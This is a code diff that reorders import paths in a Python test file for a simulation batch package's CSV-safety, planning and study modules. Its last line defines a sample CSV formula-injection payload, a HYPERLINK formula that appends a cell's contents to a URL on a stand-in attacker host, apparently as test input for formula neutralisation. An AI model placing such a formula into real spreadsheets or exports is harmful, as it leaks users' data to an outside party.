@@ -16,11 +16,11 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from sim.batch.csvsafe import FORMULA_START, csv_select, neutral
-from sim.batch.design import Factor
-from sim.batch.plan import StudyPlan
+from sim.batch.inputs.target import load_target
+from sim.batch.planning.design import Factor
+from sim.batch.planning.plan import StudyPlan
+from sim.batch.storage.csvsafe import FORMULA_START, csv_select, neutral
 from sim.batch.study import RunOptions, run_study
-from sim.batch.target import load_target
 from tests.batch.helpers import STONE_WALL, invoke
 
 EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
